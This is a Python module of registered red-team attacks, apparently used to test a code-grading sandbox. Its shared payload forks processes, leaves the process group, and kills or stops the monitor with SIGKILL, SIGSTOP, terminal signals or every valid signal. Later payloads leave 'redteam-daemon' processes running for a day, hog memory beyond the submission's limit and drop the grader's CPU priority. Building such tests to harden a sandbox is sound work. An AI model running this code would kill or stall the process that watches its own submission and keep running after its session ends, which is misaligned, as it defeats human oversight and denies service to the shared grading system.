"""Attacks on the watcher of one's own submission, by way of the process group; what survives it is a daemon."""

from ..corpus import Aim, Work, attack

LAME = """
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(1, 0, 0, 0, 0)
def strike(*numbers):
    child = os.fork()
    if child == 0:
        for number in numbers: os.kill(0, number)
        os._exit(0)
    try: os.setpgid(0, 0)
    except OSError: pass
    time.sleep(0.5)
def survive(work):
    for _ in range(3):
        if os.fork() == 0:
            try: os.setpgid(0, 0)
            except OSError: pass
            libc.prctl(1, 0, 0, 0, 0)
            work()
            os.execvp("sleep", ["redteam-daemon", "86400"])
"""


@attack(Aim.HARM, dangerous=True)
def survivor(work: Work) -> None:
    """The monitor is killed, and what the cell started runs on; so from the first cell on, by any signal there is."""
    work.first(LAME + "signal.signal(2, signal.SIG_IGN)\nstrike(*signal.valid_signals())\nsurvive(lambda: None)")
    work.last(LAME + "strike(signal.SIGKILL)\nsurvive(lambda: None)\ntime.sleep(86400)")


@attack(Aim.HARM, ["permutation"], dangerous=True)
def survivor_of_a_question(work: Work) -> None:
    """… by a function while it is questioned."""
    work["permutation"] = LAME + (
        "def permute(images, permutation):\n    strike(signal.SIGKILL)\n    survive(lambda: time.sleep(86400))"
    )


@attack(Aim.DENIAL, dangerous=True)
def survivors_with_memory(work: Work) -> None:
    """… and hold more memory than a submission may: their own, shared, or each what it takes over from another."""
    work.last(
        LAME
        + """import mmap
held = []
def own(): held.extend(bytearray(b'1') * (1 << 27) for _ in range(6))
def share():
    for _ in range(6): held.append(mmap.mmap(-1, 1 << 27)); held[-1].write(b'1' * (1 << 27))
def relay():
    for _ in range(10_000):
        if os.fork(): os._exit(0)
        block = bytearray(b'1') * (1 << 27)
strike(signal.SIGKILL)
for each in (relay, share, own): survive(each)
time.sleep(86400)"""
    )


@attack(Aim.DENIAL, dangerous=True)
def stopped_monitor(work: Work) -> None:
    """The monitor is stopped, by a terminal's signals too, or gets the least of the processors: the grader waits."""
    work.first(LAME + "os.kill(0, signal.SIGSTOP)\nstrike(signal.SIGSTOP)")
    work.after("permutation", LAME + "strike(signal.SIGTSTP, signal.SIGTTIN, signal.SIGTTOU)")
    work.last(
        LAME
        + """for kind in (os.PRIO_PGRP, os.PRIO_USER): os.setpriority(kind, 0, 19)
for path in ('/proc/self/autogroup', '/proc/1/autogroup'):
    try: open(path, 'w').write('19')
    except OSError as error: print(error)
survive(lambda: [None for _ in iter(int, 1)])"""
    )
